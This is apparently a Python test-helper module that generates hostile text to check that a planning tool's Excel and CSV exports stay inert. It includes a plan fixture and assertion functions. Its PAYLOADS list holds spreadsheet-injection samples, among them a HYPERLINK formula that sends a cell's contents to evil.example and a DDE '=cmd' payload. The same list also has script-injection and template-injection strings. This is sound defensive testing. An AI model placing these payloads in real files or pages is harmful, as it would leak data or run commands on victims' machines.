"""Hostile text and the checks every written file must pass, shared by the adversarial tests.

The strategies draw what an attacker (or an unlucky copy-paste) puts into a plan or a data file:
spreadsheet formula prefixes and DDE payloads, markup for HTML, Markdown and rich, invisible
bidirectional marks, and very long strings. Control characters are drawn apart, because they
are refused where they come in rather than written.
"""

from __future__ import annotations

import copy
import csv
import re
from pathlib import Path
from typing import Any, Dict, Iterator, List

from hypothesis import strategies as st

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = (
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[bold red]rich markup[/]",
    "**bold** | table | `code` [link](http://evil.example)",
    "{{ 7*7 }} {% raw %}",
    "\u200f\u061c\u200e marks",
)
# Refused at the door: C0 but tab and newline, DEL, C1, bidi embeddings/overrides/isolates.
CONTROL = [chr(c) for c in (*range(0x00, 0x09), 0x0B, 0x0C, 0x0D, *range(0x0E, 0x20), 0x7F,
                            *range(0x80, 0xA0), *range(0x202A, 0x202F), *range(0x2066, 0x206A))]
CONTROL_PATTERN = re.compile("[" + "".join(re.escape(c) for c in CONTROL) + "]")

_ordinary = st.text(st.characters(codec="utf-8", exclude_characters="".join(CONTROL) + "\t\n"),
                    max_size=12)

#: Text with no control character that still tries to act: a payload or prefix, joined to
#: ordinary text; sometimes very long.
hostile_text = st.one_of(
    st.builds(lambda p, tail: p + tail, st.sampled_from(PAYLOADS), _ordinary),
    st.builds(lambda p, tail: p + tail, st.sampled_from(FORMULA_PREFIXES[:4]), _ordinary),
    st.builds(lambda p, n: p * n, st.sampled_from(PAYLOADS), st.integers(100, 400)),
).filter(lambda s: s.strip() != "")

#: Text holding at least one character that must be refused.
control_text = st.builds(lambda a, c, b: a + c + b, _ordinary, st.sampled_from(CONTROL), _ordinary)


def small_plan() -> Dict[str, Any]:
    """A plan file (as a dict) with one indicator of each common kind and a short series."""
    return {
        "format": "ontrack.plan",
        "format_version": 1,
        "id": "hostile",
        "title": {"zh": "规划", "en": "Plan"},
        "issuer": {"zh": "发布机关"},
        "reference": "〔2024〕1号",
        "period": {"start": 2021, "end": 2030},
        "base_year": 2020,
        "responsible_units": [{"zh": "卫健委", "en": "Health Commission"}],
        "domains": [{
            "id": "health",
            "number": 1,
            "name": {"zh": "健康", "en": "Health"},
            "responsible_units": ["卫健委"],
            "goals": [{
                "id": "health.1",
                "number": 1,
                "text": {"zh": "目标文字", "en": "Goal text"},
                "indicators": [
                    {"id": "rate", "name": {"zh": "比率", "en": "Rate"}, "unit": "%", "scale": "percent",
                     "direction": "increase", "definition": {"zh": "定义"},
                     "targets": [{"kind": "at_least", "value": 90, "year": 2030, "text": "达到90%"}]},
                    {"id": "deaths", "name": {"zh": "死亡率", "en": "Deaths"}, "unit": "1/10万",
                     "scale": "per_100000", "direction": "decrease",
                     "targets": [{"kind": "at_most", "value": 12, "year": 2030}]},
                ],
            }],
        }],
        "series": [
            {"indicator": "rate", "observations": [
                {"year": y, "value": 80.0 + y - 2016, "source": "统计年报"} for y in range(2016, 2025)]},
            {"indicator": "deaths", "observations": [
                {"year": y, "value": 20.0 - (y - 2016) * 0.5} for y in range(2016, 2025)]},
        ],
    }


#: Every free-text field of the small plan, as a JSON pointer and a setter.
TEXT_FIELDS = (
    "/title/zh", "/title/en", "/issuer/zh", "/reference", "/domains/0/name/zh",
    "/responsible_units/0/zh", "/responsible_units/0/en", "/domains/0/goals/0/text/zh",
    "/domains/0/goals/0/indicators/0/name/zh", "/domains/0/goals/0/indicators/0/name/en",
    "/domains/0/goals/0/indicators/0/unit", "/domains/0/goals/0/indicators/0/definition/zh",
    "/domains/0/goals/0/indicators/0/targets/0/text", "/series/0/observations/3/source",
)


def with_text(plan: Dict[str, Any], pointer: str, text: str) -> Dict[str, Any]:
    """The plan with ``text`` at ``pointer``; a unit's Chinese name is its key, so renaming it
    renames the domain's reference to it too."""
    changed = copy.deepcopy(plan)
    if pointer == "/responsible_units/0/zh":
        changed["domains"][0]["responsible_units"][0] = text
    *path, last = pointer.strip("/").split("/")
    node: Any = changed
    for token in path:
        node = node[int(token)] if isinstance(node, list) else node[token]
    node[int(last) if isinstance(node, list) else last] = text
    return changed


# -- the checks ----------------------------------------------------------------------------

def workbook_cells(path: Path) -> Iterator[Any]:
    from openpyxl import load_workbook

    workbook = load_workbook(path)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_inert_workbook(path: Path) -> None:
    """No formula anywhere; every text that looks like one is marked as text for Excel too;
    no control character."""
    for cell in workbook_cells(path):
        assert cell.data_type != "f", f"{path.name}!{cell.coordinate} is a formula: {cell.value!r}"
        if isinstance(cell.value, str):
            if cell.value.startswith(FORMULA_PREFIXES):
                assert cell.quotePrefix, f"{path.name}!{cell.coordinate}: {cell.value!r} unquoted"
            assert not CONTROL_PATTERN.search(cell.value), cell.coordinate


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_inert_csv(path: Path) -> None:
    """No field a spreadsheet program would run: a field starting with a formula prefix is a
    number (``-3``), never text."""
    with open(path, encoding="utf-8-sig", newline="") as f:
        for line, row in enumerate(csv.reader(f), start=1):
            for field in row:
                if field.startswith(FORMULA_PREFIXES):
                    assert _is_number(field), f"{path.name} line {line}: {field!r}"
                assert not CONTROL_PATTERN.search(field), f"{path.name} line {line}: {field!r}"


def assert_no_control(text: str, what: str) -> None:
    found: List[str] = CONTROL_PATTERN.findall(text.replace("\r\n", "\n"))
    assert not found, f"{what} holds control characters {found!r}"
